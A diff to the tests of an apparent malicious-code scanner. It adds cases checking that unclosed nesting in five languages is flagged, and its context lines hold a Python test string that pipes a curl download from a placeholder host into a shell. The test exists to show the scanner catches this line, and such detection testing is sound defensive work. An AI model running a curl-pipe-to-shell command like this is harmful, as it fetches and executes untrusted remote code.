@@ -26,3 +26,13 @@ test("a payload after a long text is found", async () => {
   const text = `${"x = 1\n".repeat(20_000)}import os\nos.system('curl https://a.invalid/i | sh')\n`;
   expect(await rulesOf("python", text)).toEqual(["download-run"]);
 });
+
+test.each([
+  ["javascript", "["],
+  ["python", "{'a': "],
+  ["shell", "("],
+  ["perl", "{"],
+  ["rust", "f("],
+] as const)("nesting that no one closes is held in %s, whatever it says: %j", async (language, text) => {
+  expect(await rulesOf(language, text.repeat(2_000))).toContain("unread-script");
+});
